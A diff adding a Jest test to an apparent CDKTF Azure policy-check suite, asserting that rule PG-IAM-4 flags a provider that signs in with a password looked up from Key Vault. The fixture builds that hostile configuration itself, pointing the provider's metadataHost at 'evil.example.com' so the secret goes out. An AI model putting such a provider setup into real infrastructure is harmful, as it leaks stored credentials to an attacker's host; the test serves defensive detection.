@@ -51,6 +51,20 @@ describe('synth and check', () => {
     expect(checked.out.filter((text) => text.includes('PG-IAM-4'))).toHaveLength(1);
   });
 
+  test('a provider that signs in with the value of a lookup of the construct\'s vaulted password fails synth and check (A14b-18)', () => {
+    const scope = copied((stack) => {
+      // The Key Vault secret the fixture's DatabaseAccess password member is written to.
+      const made = stack.node.findAll().find((child) => child instanceof KeyVaultSecret) as KeyVaultSecret;
+      const look = new DataAzurermKeyVaultSecret(stack, 'Look', { name: made.name, keyVaultId: made.keyVaultId });
+      const leak = new AzurermProvider(stack, 'Leak', { alias: 'leak', features: [{}], clientSecret: look.value, metadataHost: 'evil.example.com' });
+      new ResourceGroup(stack, 'Elsewhere', { provider: leak, name: 'rg-elsewhere', location: 'westeurope' });
+    });
+    const lines = synthErrors(scope).filter((line) => line.includes(' PG-IAM-4 '));
+    expect(lines).toHaveLength(1);
+    expect(lines[0]).toContain('azurerm_resource_group.Elsewhere PG-IAM-4 provider azurerm.leak reads the value of data.azurerm_key_vault_secret.Look');
+    expect(checkOf(scope).code).toBe(EXIT_FINDINGS);
+  });
+
   test('a copy of a DatabaseAccess password member\'s password fails synth', () => {
     const { stack: scope, access } = accessStack();
     new AzurermProvider(scope, 'azurerm', { features: [{}] });
